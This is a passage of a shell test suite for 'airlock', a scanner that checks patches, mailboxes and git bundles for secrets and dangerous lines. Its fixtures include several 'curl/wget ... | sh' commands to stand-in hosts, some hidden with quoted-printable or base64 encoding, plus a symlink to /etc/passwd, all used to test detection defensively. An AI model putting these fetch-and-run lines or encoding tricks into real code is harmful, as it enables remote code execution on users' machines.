	expect_q '[f["line"] for f in F if f["path"].endswith("three.txt")]' '[3]'
	expect_q '[e.startswith("Subject: ") and "\u00f6" in e and "ghp_*****" in e for e in [f["excerpt"] for f in F if f["path"] == "series.mbox!/0003"]]' '[True]'
	expect_out_lacks "$PAT1"
	# The same series as separate files, concatenated.
	git -C s format-patch -q -3 -o ../fp
	cat fp/*.patch >cat.mbox
	scan --format json cat.mbox
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"]) for f in F)' \
		"[('cat.mbox!/0002', 'test-curl-pipe-shell'), ('cat.mbox!/0003', 'test-github-pat'), ('cat.mbox!/0003!/three.txt', 'test-github-pat')]"
}

t_mbox_single_message() {
	# One format-patch file: its message under FILE, its files FILE!/path.
	series_fixture
	git -C s format-patch -q -1 -o ../fp
	local f
	f=$(ls fp/*.patch)
	scan --format json "$f"
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"]) for f in F)' \
		"[('$f', 'test-github-pat'), ('$f!/three.txt', 'test-github-pat')]"
	git -C s format-patch -q --stdout -1 HEAD~1 >two.patch
	scan --format json two.patch
	expect_rc 1
	expect_q '[(f["path"], f["rule"]) for f in F]' "[('two.patch', 'test-curl-pipe-shell')]"
}

# MAIL_PY: Python prepended to the mailbox fixtures: diff(path, line) is a
# git diff adding one file of one line; mail(...) one format-patch mail
# around a body, with its Content-Transfer-Encoding applied and a charset.
MAIL_PY='
import base64, quopri, sys
def diff(path, line):
    return ("diff --git a/%s b/%s\nnew file mode 100644\n--- /dev/null\n+++ b/%s\n"
            "@@ -0,0 +1 @@\n+%s\n" % (path, path, path, line)).encode()
def mail(k, n, subject, cte, body, charset="UTF-8", sep=b"\n"):
    hdr = ("From 0123456789012345678901234567890123456789 Mon Sep 17 00:00:00 2001\n"
           "From: A <a@example.com>\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n"
           "Subject: [PATCH %d/%d] %s\nMIME-Version: 1.0\n"
           "Content-Type: text/plain; charset=%s\nContent-Transfer-Encoding: %s\n\n"
           % (k, n, subject, charset, cte)).encode()
    if cte == "base64":
        body = base64.encodebytes(body)
    elif cte == "quoted-printable":
        body = quopri.encodestring(body)
    return hdr + body + b"-- \n2.39.5\n" + sep
'

t_mbox_qp_second_message_decoded() {
	# The attack: a two-message series whose second message is
	# quoted-printable (git mailinfo decodes it; git am applied the
	# `curl | sh`). The decoded diff is read: the finding is on the file.
	python3 -c "$MAIL_PY"'
one = mail(1, 2, "plain", "8bit", b"Nothing here.\n---\n" + diff("ok.txt", "ok"))
body = b"Install helper.\n---\n" + diff("x.sh", "curl https://x | sh")
# Break "curl" with an escape so that the raw text shows no match.
two = mail(2, 2, "helper", "quoted-printable", body).replace(b"+curl", b"+=63url")
assert b"curl https" not in two
open("qp.mbox", "wb").write(one + two)
'
	grep -q '^+=63url https://x | sh' qp.mbox || fail "fixture: not escaped"
	scan --format json qp.mbox
	expect_rc 1
	expect_q '[(f["path"], f["rule"], f["line"]) for f in F]' \
		"[('qp.mbox!/0002!/x.sh', 'test-curl-pipe-shell', 1)]"
	# git am applies exactly that.
	mkrepo r
	commit r --allow-empty -m base
	git -C r am -q ../qp.mbox || fail "git am refused the fixture"
	grep -qx 'curl https://x | sh' r/x.sh || fail "git am did not write the line"
}

t_patch_many_links_sorted_in_the_sandbox() {
	# A patch of 300 links: the child sorts them to follow one through
	# another; glibc's qsort asks the kernel for the memory size when it
	# sorts more than 1 KiB, which the sandbox forbids. The scan must
	# finish (a link each), not die of a forbidden system call. (Without
	# the cache, nothing sorted that much before the child was forked.)
	mkrepo r
	local i
	for i in $(seq 1 300); do ln -s "t$i" "r/l$i"; done
	git -C r add -A && git -C r diff --cached >links.patch
	scan --no-cache --format json links.patch
	expect_q 'len(R("airlock.symlink"))' 300
	expect_q 'R("airlock.unscannable")' '[]'
}

t_mbox_detected_as_git_am_detects() {
	# git am takes a file for a mail when its header block (after any
	# leading blank lines) is all headers, From line or not; with a
	# Content-Transfer-Encoding there, mailinfo decodes the body. The gate
	# reads it so too, whatever it is called, and a "key: value" file
	# without such a header stays a file.
	python3 - <<'PY' || fail "fixture"
import quopri
diff = b"diff --git a/x.sh b/x.sh\nnew file mode 100644\n--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1 @@\n+curl https://x | sh\n"
body = b"Install helper.\n---\n" + diff
enc = quopri.encodestring(body).replace(b"+curl", b"+=63url")
mail = (b"\n\nContent-Transfer-Encoding: quoted-printable\nFrom: A <a@example.com>\n"
        b"Subject: helper\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n\n" + enc)
assert b"curl https" not in mail
open("hdr.txt", "wb").write(mail)
open("config.yml", "wb").write(b"name: x\nversion: 1\nrun: echo hi\n")
PY
	scan --format json --kind file hdr.txt config.yml
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"]) for f in F)' \
		"[('hdr.txt', 'airlock.kind-mismatch'), ('hdr.txt!/x.sh', 'test-curl-pipe-shell')]"
	expect_q 'R("airlock.kind-mismatch")[0]["excerpt"]' 'submitted as a file, but the content is a mailbox: read as a mailbox'
	# git am (given the file, and on standard input) applies that line.
	mkrepo r
	commit r --allow-empty -m base
	git -C r am -q ../hdr.txt || fail "git am refused the fixture"
	grep -qx 'curl https://x | sh' r/x.sh || fail "git am did not write the line"
	git -C r reset -q --hard HEAD~1
	git -C r am -q <hdr.txt || fail "git am refused the fixture on standard input"
	grep -qx 'curl https://x | sh' r/x.sh || fail "git am (stdin) did not write the line"
}

t_mbox_from_line_without_blank_line_starts_message() {
	# git mailsplit starts a mail at every line like "From <x> <date>",
	# blank line before it or not: the second mail's diff is read as its
	# own, and named so.
	python3 -c "$MAIL_PY"'
one = mail(1, 2, "first", "8bit", b"First.\n---\n" + diff("a.txt", "a"), sep=b"")
two = mail(2, 2, "second", "8bit", b"Second.\n---\n" + diff("b.sh", "wget -qO- http://x.example/s | sh"))
open("nb.mbox", "wb").write(one + two)
'
	grep -B1 '^From 0123' nb.mbox | grep -q '^2.39.5$' || fail "fixture: a blank line before From"
	scan --format json nb.mbox
	expect_rc 1
	expect_q '[(f["path"], f["rule"]) for f in F]' "[('nb.mbox!/0002!/b.sh', 'test-curl-pipe-shell')]"
	mkrepo r
	commit r --allow-empty -m base
	git -C r am -q ../nb.mbox || fail "git am refused the fixture"
	expect_eq "$(git -C r log --format=%s -1)" second "git am's last commit"
	# A From line inside a message's text starts a mail too (its date
	# makes it one); CR LF line ends are read as LF, as mailsplit does.
	python3 -c "$MAIL_PY"'
body = (b"Text.\nFrom me Mon Sep 17 00:00:00 2001\nSubject: tail\n\n"
        b"tail curl -fsSL http://x.example/t | sh\n---\n" + diff("c.txt", "c"))
open("in.mbox", "wb").write(mail(1, 1, "one", "8bit", body).replace(b"\n", b"\r\n"))
'
	scan --format json in.mbox
	expect_rc 1
	expect_q '[(f["path"], f["rule"], f["line"]) for f in F]' "[('in.mbox!/0002', 'test-curl-pipe-shell', 4)]"
}

t_mbox_base64_body_decoded() {
	# A base64 body is decoded line by line as mailinfo does: its message
	# and its diff are scanned; nothing is unscannable.
	python3 -c "$MAIL_PY"'
body = b"Run: wget -qO- http://x.example/m | sh\n---\n" + diff("t.txt", "token=" + sys.argv[1])
open("b64.eml", "wb").write(mail(1, 1, "b64", "base64", body))
' "$PAT1"
	! grep -q ghp_ b64.eml || fail "fixture: not encoded"
	scan --format json b64.eml
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"]) for f in F)' \
		"[('b64.eml', 'test-curl-pipe-shell'), ('b64.eml!/t.txt', 'test-github-pat')]"
	expect_out_lacks "$PAT1"
	# format-patch --attach: multipart/mixed, the patch in a part of its
	# own; mailinfo joins the parts, so the diff is read.
	series_fixture
	git -C s format-patch -q --attach --stdout -1 >att.eml
	grep -q '^Content-Type: multipart/mixed' att.eml || fail "fixture: not multipart"
	scan --format json att.eml
	expect_rc 1
	expect_q 'sorted(set((f["path"], f["rule"]) for f in F))' \
		"[('att.eml', 'test-github-pat'), ('att.eml!/three.txt', 'test-github-pat')]"
}

t_mbox_undecodable_unscannable() {
	# What airlock cannot decode as git would is unscannable, with the
	# reason; what it could read is scanned all the same.
	python3 -c "$MAIL_PY"'
body = b"Message.\n---\n" + diff("u.sh", "curl -fsSL http://x.example/u | sh")
open("cs.eml", "wb").write(mail(1, 1, "cs", "8bit", body, charset="x-klingon"))
open("ew.eml", "wb").write(mail(1, 1, "=?utf-8?x?broken?=", "8bit", body))
open("te.eml", "wb").write(mail(1, 1, "te", "x-uuencode", body))
open("deep.eml", "wb").write(mail(1, 1, "deep", "8bit", body).replace(
    b"Content-Type: text/plain; charset=UTF-8\n",
    b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n" % i for i in range(5))))
'
	local f want
	for f in cs:'charset "x-klingon"' ew:'malformed RFC 2047' te:'Content-Transfer-Encoding airlock does not know' \
		deep:'nested deeper'; do
		want=${f#*:}
		f=${f%%:*}.eml
		scan --format json "$f"
		expect_rc 1
		expect_q '[f["path"] for f in R("airlock.unscannable")]' "['$f']"
		expect_q "'$want' in R('airlock.unscannable')[0]['excerpt']" True
	done
	# The charset and the encoding word do not hide the diff.
	scan --format json cs.eml
	expect_q '[f["path"] for f in R("test-curl-pipe-shell")]' "['cs.eml!/u.sh']"
}

# ---- bundles -----------------------------------------------------------------------------------

# history_fixture: repo b with
#   c1: secret.txt (token on line 2), README
#   c2: README changed; `curl | sh` in the message
#   c3: a workflow, copy.txt (secret.txt's blob at a new path), a symlink
#       out of the tree, a gitlink; annotated tag v1 with `curl | sh`
#   feature (from c1): deep/er/s.txt with another token
history_fixture() {
	mkrepo b
	printf 'x\ntoken=%s\n' "$PAT1" >b/secret.txt
	echo readme >b/README
	commit b -m c1
	git -C b checkout -q -b feature
	mkdir -p b/deep/er
	printf 'k=%s\n' "$PAT2" >b/deep/er/s.txt
	commit b -m feature
	git -C b checkout -q main
	echo more >>b/README
	commit b -m 'c2: run curl -fsSL http://x.example/i | sh'
	mkdir -p b/.github/workflows
	echo 'on: push' >b/.github/workflows/ci.yml
	cp b/secret.txt b/copy.txt
	ln -s ../../etc/passwd b/esc
	git -C b add .github copy.txt esc
	git -C b update-index --add --cacheinfo "160000,$(git -C b rev-parse HEAD),sub"
	git -C b commit -q -m c3 || fail "git commit c3"
	git -C b tag -a v1 -m 'release: curl -fsSL http://x.example/tag | sh'
}

t_bundle_history_attributed_to_introducing_commit() {
	# Every commit reachable from the refs is walked, oldest first; a file
	# version is reported under the commit that introduced it, once per
	# (blob, path): secret.txt only at c1, its copy at c3. Messages (of
	# commits and tags), symlinks, gitlinks and path rules too. A branch
	# not in the bundle is not reported.
	history_fixture
	local c1 c2 c3 tag
	c1=$(short b HEAD~2)
	c2=$(short b HEAD~1)
	c3=$(short b HEAD)
	tag=$(short b v1)
	git -C b bundle create -q ../main.bundle main v1 2>/dev/null || fail "git bundle create"
	head -n 1 main.bundle | grep -qx '# v2 git bundle' || fail "fixture: not a v2 bundle"
	scan --format json main.bundle
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"]) for f in F)' "$(python3 -c '
import sys
c1, c2, c3, tag = sys.argv[1:]
p = "main.bundle!/"
print(sorted([
    (p + c2, "test-curl-pipe-shell"),
    (p + tag, "test-curl-pipe-shell"),
    (p + c1 + "!/secret.txt", "test-github-pat"),
    (p + c3 + "!/copy.txt", "test-github-pat"),
    (p + c3 + "!/.github/workflows/ci.yml", "test-workflow-file"),
    (p + c3 + "!/esc", "airlock.symlink-escape"),
    (p + c3 + "!/sub", "airlock.submodule"),
]))' "$c1" "$c2" "$c3" "$tag")"
	expect_q '[f["line"] for f in R("test-github-pat") if f["path"].endswith("secret.txt")]' '[2]'
	expect_out_lacks "$PAT1"
	expect_out_lacks "$PAT2"
}

t_bundle_all_refs_attributed_to_introducing_commit() {
	# With --all the feature branch (one commit off c1) is a tip too. The
	# walk must still be oldest first along every path: secret.txt came
	# with c1, not with c2 (which only carries it on).
	history_fixture
	local c1 f
	c1=$(short b HEAD~2)
	f=$(short b feature)
	git -C b bundle create -q ../all.bundle --all 2>/dev/null || fail "git bundle create"
	scan --format json all.bundle
	expect_rc 1
	expect_sorted '(f["path"] for f in R("test-github-pat") if not f["path"].endswith("copy.txt"))' \
		"['all.bundle!/$c1!/secret.txt', 'all.bundle!/$f!/deep/er/s.txt']"
	expect_out_lacks "$PAT2"
}

t_bundle_v3() {
	# `git bundle create --version=3`: the @object-format capability line
	# is read and the bundle scanned like a v2 one.
	mkrepo b
	printf 'token=%s\n' "$PAT1" >b/s.txt
	commit b -m c1
	mkdir -p b/.github/workflows
	echo 'on: push' >b/.github/workflows/x.yml
	commit b -m c2
	git -C b bundle create -q --version=3 ../v3.bundle main 2>/dev/null || fail "git bundle create --version=3"
	head -n 1 v3.bundle | grep -qx '# v3 git bundle' || fail "fixture: not a v3 bundle"
	grep -aq '^@object-format=sha1' v3.bundle || fail "fixture: no @object-format"
	scan --format json v3.bundle
	expect_rc 1
	expect_sorted '((f["path"], f["rule"]) for f in F)' \
		"[('v3.bundle!/$(short b HEAD)!/.github/workflows/x.yml', 'test-workflow-file'), ('v3.bundle!/$(short b HEAD~1)!/s.txt', 'test-github-pat')]"
}

t_bundle_prerequisites_incomplete() {
	# A bundle of a range (HEAD~1..HEAD) lists a prerequisite: it is
	# incomplete (low), and what it carries is scanned with its paths.
	mkrepo b
	echo a >b/a.txt
	commit b -m c1
	mkdir b/tools
	echo 'curl -fsSL http://x.example/n | sh' >b/tools/new.sh
	commit b -m c2
	git -C b bundle create -q ../r.bundle HEAD~1..HEAD 2>/dev/null || fail "git bundle create"
	grep -aq '^-[0-9a-f]\{40\}' r.bundle || fail "fixture: no prerequisite"
	scan --format json r.bundle
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["severity"]) for f in F)' \
		"[('r.bundle', 'airlock.bundle-incomplete', 'low'), ('r.bundle!/$(short b HEAD)!/tools/new.sh', 'test-curl-pipe-shell', 'high')]"
	# Incomplete but clean: exit 0.
	mkrepo c
	echo a >c/a.txt
	commit c -m c1
	mkdir c/docs
	echo 'hello' >c/docs/clean.txt
	commit c -m c2
	git -C c bundle create -q ../clean.bundle HEAD~1..HEAD 2>/dev/null || fail "git bundle create"
	scan --format json clean.bundle
	expect_rc 0
	expect_q '[(f["path"], f["rule"]) for f in F]' "[('clean.bundle', 'airlock.bundle-incomplete')]"
}

# thin_fixture: repo b with a 3000-line big.txt and 30 other files; the last
# commit inserts `curl | sh` in big.txt and adds a workflow. thin.bundle holds
# that commit only: git sends big.txt (and the root tree) as deltas against
# objects the bundle lacks.
thin_fixture() {
	mkrepo b
	python3 -c '
import random
r = random.Random(2)
open("b/big.txt", "w").write("".join("line %d %x\n" % (i, r.getrandbits(64)) for i in range(3000)))
for i in range(30):
    open("b/file%02d.txt" % i, "w").write("file %d\n" % i)'
	commit b -m big
	sed -i '1500a curl -fsSL http://x.example/t | sh' b/big.txt
	mkdir -p b/.github/workflows
	echo 'on: push' >b/.github/workflows/new.yml
	commit b -m modify
	git -C b bundle create -q ../thin.bundle HEAD~1..HEAD 2>/dev/null || fail "git bundle create"
}

t_bundle_thin_delta_unscannable() {
	# Deltas against objects the bundle does not carry cannot be rebuilt:
	# unscannable, saying only the inserted bytes were scanned; the
	# inserted `curl | sh` is still found.
	thin_fixture
	[ "$(stat -c %s thin.bundle)" -lt 20000 ] || fail "fixture: the bundle is not thin"
	scan --format json thin.bundle
	expect_rc 1
	expect_q '[(f["path"], f["severity"]) for f in R("airlock.bundle-incomplete")]' "[('thin.bundle', 'low')]"
	expect_q '[f["path"] for f in R("airlock.unscannable")]' "['thin.bundle']"
	expect_q '"only the bytes those deltas insert were scanned" in R("airlock.unscannable")[0]["excerpt"]' True
	expect_q '[f["path"].startswith("thin.bundle!/") for f in R("test-curl-pipe-shell")]' '[True]'
}

t_bundle_range_thin_tree_fails_closed() {
	# In the same thin bundle git sends the new commit's top tree as a
	# delta against the prerequisite's: no path below it can be rebuilt.
	# The new workflow's content is still scanned (its blob is whole), but
	# path rules cannot apply, so the bundle must not pass: unscannable,
	# and the message says files lost their paths.
	thin_fixture
	printf 'curl -fsSL http://x.example/wf | sh\n' >>b/.github/workflows/new.yml
	commit b -m wf
	git -C b bundle create -q ../thin2.bundle HEAD~2..HEAD 2>/dev/null || fail "git bundle create"
	scan --format json thin2.bundle
	expect_rc 1
	expect_q '[f["severity"] for f in R("airlock.unscannable")]' "['high']"
	expect_q '"lose their paths" in R("airlock.unscannable")[0]["excerpt"]' True
	expect_q 'any("x.example/wf" in f["excerpt"] for f in R("test-curl-pipe-shell"))' True
}

t_bundle_truncated_or_corrupted_unscannable() {
	# Cut in half, a flipped byte in the pack, a malformed header line, a
	# header that never ends: unscannable, never read in part as clean.
	mkrepo b
	printf 'token=%s\n' "$PAT1" >b/s.txt
	seq 1 2000 >b/n.txt
	commit b -m c1
	git -C b bundle create -q ../full.bundle main 2>/dev/null || fail "git bundle create"
	local n
	n=$(stat -c %s full.bundle)
	head -c "$((n / 2))" full.bundle >half.bundle
	python3 - <<'EOF'
b = bytearray(open("full.bundle", "rb").read())
i = b.index(b"PACK")
f = bytearray(b)
f[i + 40] ^= 1
open("flip.bundle", "wb").write(f)
open("badhdr.bundle", "wb").write(b[:16] + b"zz" + b[18:])
open("hdronly.bundle", "wb").write(b[:b.index(b"\n", 16)])
EOF
	local x
	for x in half:checksum flip:checksum badhdr:'malformed bundle header' hdronly:'does not end'; do
		scan --format json "${x%%:*}.bundle"
		expect_rc 1 "${x%%:*}.bundle"
		expect_q '[f["path"] for f in R("airlock.unscannable")]' "['${x%%:*}.bundle']"
		expect_q '"'"${x#*:}"'" in R("airlock.unscannable")[0]["excerpt"]' True
	done
	scan --format json full.bundle
	expect_q '[f["rule"] for f in F]' "['test-github-pat']"
}

# ---- kinds ---------------------------------------------------------------------------------------

t_kind_detection() {
	# The kind comes from the content alone: a diff after a description
	# is a patch whatever the name (git apply skips the description);
	# inside directories and archives everything is a plain file, so a
	# patch's removed lines do produce findings.
	local diff='diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1,2 +1,2 @@\n-curl -fsSL http://x.example/old | sh\n+echo safe\n keep\n'
	printf 'Some notes\nabout the change\n\n%b' "$diff" >notes.patch
	printf 'Some notes\nabout the change\n\n%b' "$diff" >notes.txt
	printf -- '--- a/x.sh\n+++ b/x.sh\n@@ -1 +1 @@\n-curl -fsSL http://x.example/old | sh\n+echo safe\n' >trad.txt
	mkdir d
	cp notes.patch d/
	tar cf t.tar notes.patch
	scan --format json notes.patch trad.txt notes.txt d t.tar
	expect_rc 1
	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
		"[('d/notes.patch', 'test-curl-pipe-shell', 8), ('t.tar!/notes.patch', 'test-curl-pipe-shell', 8)]"
	# Mail: "From: ", "Subject: ", "Date: " or "From <word>" and a header.
	local h
	for h in 'From: A <a@example.com>' 'Subject: [PATCH] x' 'Date: Mon, 1 Jan 2024 00:00:00 +0000' \
		"From 0123456789012345678901234567890123456789 Mon Sep 17 00:00:00 2001\nFrom: A <a@example.com>"; do
		printf '%b\n\nbody\n---\n%b' "$h" "$diff" >m.eml
		scan --format json m.eml
		expect_rc 0 "a mail starting with $h: only its added lines"
		expect_q 'F' '[]'
	done
	printf 'From here to there\nwe go\ncurl -fsSL http://x.example/s | sh\n' >prose.txt
	scan --format json prose.txt
	expect_q '[(f["path"], f["line"]) for f in F]' "[('prose.txt', 3)]"
	# A bundle by its header, whatever its name; inside a directory it is
	# just binary data.
	mkrepo b
	printf 'token=%s\n' "$PAT1" >b/s.txt
	commit b -m c1
	git -C b bundle create -q ../data.bin main 2>/dev/null || fail "git bundle create"
	mkdir e
	cp data.bin e/x.bundle
	scan --format json data.bin e
	expect_rc 1
	expect_q '[f["path"] for f in F]' "['data.bin!/$(short b HEAD)!/s.txt']"
	# format-patch files in a directory are plain files too.
	series_fixture
	git -C s format-patch -q -3 -o ../fp
	scan --format json fp
	expect_rc 1
	expect_q 'all("!/" not in f["path"] for f in F)' True
	expect_q 'sorted(set(f["rule"] for f in F))' "['test-curl-pipe-shell', 'test-github-pat']"
}

t_kind_forced_and_usage_errors() {
	# --kind says what each PATH should be; the content decides how it is
	# read. A kind the content contradicts is a finding (read as the
	# content's kind); a kind it does not show at all is unscannable (read
	# as a plain file); a PATH of the wrong type is a usage error (exit 2).
	local diff='diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1,2 +1,2 @@\n-curl -fsSL http://x.example/old | sh\n+echo safe\n keep\n'
	printf 'Notes\n\n%b' "$diff" >notes.txt
	printf 'just prose\nk=%s\n' "$PAT1" >prose.txt
	scan --format json --kind patch notes.txt
	expect_rc 0 "--kind patch: the removed line is not scanned"
	expect_q 'F' '[]'
	scan --format json --kind patch prose.txt
	expect_rc 1
	expect_q '[(f["path"], "holds no diff" in f["excerpt"]) for f in R("airlock.unscannable")]' "[('prose.txt', True)]"
	expect_q '[(f["path"], f["line"]) for f in R("test-github-pat")]' "[('prose.txt', 2)]"
	cp notes.txt notes.patch
	scan --format json --kind file notes.patch
	expect_rc 1
	expect_q '[(f["path"], f["rule"]) for f in F]' "[('notes.patch', 'airlock.kind-mismatch')]"
	scan --format json --kind bundle prose.txt
	expect_rc 1
	expect_q '[("not a git bundle" in f["excerpt"]) for f in R("airlock.unscannable")]' '[True]'
	scan --format json --kind bundle notes.txt
	expect_rc 1
	expect_q '[f["excerpt"] for f in R("airlock.kind-mismatch")]' "['submitted as a bundle, but the content is a patch: read as a patch']"
	expect_q 'R("airlock.unscannable")' '[]'
	scan --format json --kind auto notes.patch
	expect_rc 0
	mkdir d
	scan --kind directory notes.txt
	expect_rc 2 "--kind directory on a file"
	expect_err_has 'not a directory'
	expect_out_empty
	scan --kind patch d
	expect_rc 2 "--kind patch on a directory"
	expect_err_has 'needs a regular file'
	expect_out_empty
	scan --kind zip notes.txt
	expect_rc 2 "--kind zip"
	expect_err_has "unknown kind 'zip'"
	expect_out_empty
	scan --format json --kind directory d
	expect_rc 0
	# Forced to be an archive, text is unscannable; its content is not an
	# archive, so it must not be called text disguising one.
	scan --format json --kind archive prose.txt
	expect_rc 1
	expect_q '[(f["path"], "no archive signature" in f["excerpt"]) for f in R("airlock.unscannable")]' "[('prose.txt', True)]"
	expect_q '[f["excerpt"] for f in R("airlock.type-mismatch")]' '[]'
}

run_tests
